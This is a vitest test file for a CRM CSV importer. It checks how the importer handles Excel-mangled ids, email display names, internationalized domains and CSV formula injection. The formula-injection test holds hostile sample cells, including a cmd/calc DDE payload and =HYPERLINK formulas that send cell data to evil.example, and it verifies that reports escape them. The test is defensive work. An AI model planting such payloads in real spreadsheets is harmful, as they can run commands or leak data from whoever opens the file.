/**
 * Bad input, suspicious values: ids Excel turned into `1.23457E+10`, spreadsheet formulas (`=HYPERLINK(...)`,
 * `+cmd`, `@SUM`), emails with display names, internationalized domain names. Each run checks the exit code,
 * what reached the workspace and what the reports say.
 */
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { RunningSandbox } from '../../src/sandbox/index.js';
import {
  BAD,
  cleanupTmp,
  expectEveryRowAccounted,
  importCli,
  items,
  people,
  personByEmail,
  reportText,
  sandboxFor,
} from './helpers.js';

const CONTACTS = 'hubspot-crm-exports-all-contacts-2024-05-01.csv';
const sandboxes: RunningSandbox[] = [];
afterAll(async () => {
  await Promise.all(sandboxes.map((s) => s.close()));
  cleanupTmp();
});

async function freshSandbox(): Promise<RunningSandbox> {
  const sandbox = await sandboxFor();
  sandboxes.push(sandbox);
  return sandbox;
}

describe('Excel-mangled id column', () => {
  it('run: exit 1, the mangled row failed at line 3, column 1 with "import the original download", others imported', async () => {
    const sandbox = await freshSandbox();
    const file = join(BAD, 'excel-mangled', CONTACTS);
    const result = await importCli('run', sandbox, [file]);
    expect(result.code, result.stderr).toBe(1);
    expect(result.stderr).toContain(`${file}:3:1: column 1 ("Record ID") holds ids in scientific notation`);
    expect(result.stderr).toContain('[EXCEL_MANGLED_ID]');
    expectEveryRowAccounted(result, { [CONTACTS]: { 2: 'created', 3: 'failed', 4: 'created' } });
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]).toMatchObject({
      source_line: '3',
      source_id: '1.23457E+10',
      code: 'EXCEL_MANGLED_ID',
    });
    expect(result.errors[0]!.reason).toContain('import the original download, not a copy re-saved in Excel');
    expect(result.errors[0]!.original_values).toContain('mangled@acme.com');
    expect(
      people(sandbox)
        .map((p) => items(p.attributes.email_addresses)[0])
        .sort(),
    ).toEqual(['ada@acme.com', 'grace@globex.com']);
  });
});

describe('formula injection', () => {
  it('run: the values reach Clarify as typed; every report cell that starts with = + - @ is escaped', async () => {
    const sandbox = await freshSandbox();
    const file = join(BAD, 'formula-injection', CONTACTS);
    const result = await importCli('run', sandbox, [file]);
    expect(result.code, result.stderr).toBe(1);
    expectEveryRowAccounted(result, {
      [CONTACTS]: {
        2: 'created',
        3: 'created',
        4: 'created',
        5: 'created',
        6: 'failed',
        7: 'failed',
        8: 'created',
      },
    });

    // The data sent to Clarify is the original text.
    expect(personByEmail(sandbox, 'eve@evil.example')?.attributes).toMatchObject({
      last_name: "+cmd|' /C calc'!A0",
      job_title: '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    });
    expect(personByEmail(sandbox, 'mallory@evil.example')?.attributes).toMatchObject({
      first_name: '@SUM(1+1)',
      job_title: '-2+3+cmd',
    });
    expect(personByEmail(sandbox, 'trudy@evil.example')).toBeDefined();
    expect(people(sandbox)).toHaveLength(5);

    // Parsed back, the reports hold the value behind a leading ' ...
    const outcome5 = result.outcomes.find((o) => o.source_line === '5')!;
    expect(outcome5.source_id).toBe(`'=HYPERLINK("http://evil.example/?id="&A1)`);
    const error6 = result.errors.find((e) => e.source_line === '6')!;
    expect(error6).toMatchObject({ source_file: file, source_id: "'@SUM(1+1)", code: 'CSV_RAGGED_ROW' });
    const error7 = result.errors.find((e) => e.source_line === '7')!;
    expect(error7.code).toBe('EXCEL_MANGLED_ID');
    // ... the original values (one JSON cell) keep the text exactly, in a cell a spreadsheet does not run.
    expect(JSON.parse(error7.original_values!)).toMatchObject({
      'First Name': '=1+1',
      'Last Name': '@Oscar',
      'Job Title': '=HYPERLINK("http://evil.example")',
    });

    // ... and no raw cell of either file starts with a formula character.
    for (const name of ['outcomes.csv', 'errors.csv'] as const) {
      const cells = reportText(result.state, name)
        .split(/\r?\n/)
        .flatMap((line) => line.split(','))
        .map((cell) => cell.replace(/^"/, ''));
      expect(
        cells.filter((cell) => /^[=+\-@]/.test(cell)),
        name,
      ).toEqual([]);
    }
  });
});

describe('emails with display names', () => {
  it('run: exit 0, the bare address extracted and stored (lower case), every row imported', async () => {
    const sandbox = await freshSandbox();
    const result = await importCli('run', sandbox, [join(BAD, 'display-names')]);
    expect(result.code, result.stderr).toBe(0);
    expectEveryRowAccounted(result, {
      [CONTACTS]: { 2: 'created', 3: 'created', 4: 'created', 5: 'created' },
    });
    expect(result.errors).toEqual([]);
    expect(items(personByEmail(sandbox, 'jane@example.com')?.attributes.email_addresses)).toEqual([
      'jane@example.com',
    ]);
    expect(personByEmail(sandbox, 'john.roe@example.com')?.attributes).toMatchObject({ first_name: 'John' });
    expect(personByEmail(sandbox, 'max@example.de')?.attributes).toMatchObject({ last_name: 'Mustermann' });
    const stored = people(sandbox).flatMap((p) => items(p.attributes.email_addresses));
    expect(stored.filter((email) => /[<>"\s]/.test(email))).toEqual([]);
  });
});

describe('internationalized domain names', () => {
  it('run: exit 0, bücher.de stored as xn--bcher-kva.de (domains and emails), every row imported', async () => {
    const sandbox = await freshSandbox();
    const result = await importCli('run', sandbox, [join(BAD, 'idn')]);
    expect(result.code, result.stderr).toBe(0);
    expectEveryRowAccounted(result, {
      'hubspot-crm-exports-all-companies-2024-05-01.csv': { 2: 'created', 3: 'created', 4: 'created' },
      [CONTACTS]: { 2: 'created', 3: 'created' },
    });
    const companies = sandbox.dump().company ?? [];
    const domainsOf = (name: string) =>
      items(companies.find((c) => c.attributes.name === name)?.attributes.domains);
    expect(domainsOf('Bücher GmbH')).toEqual(['xn--bcher-kva.de']);
    expect(domainsOf('Müller AG')).toEqual(['xn--mller-kva.ch']);
    expect(domainsOf('Acme Corporation')).toEqual(['acme.com']);
    expect(personByEmail(sandbox, 'bea@xn--bcher-kva.de')?.attributes).toMatchObject({ last_name: 'Bücher' });
  });
});
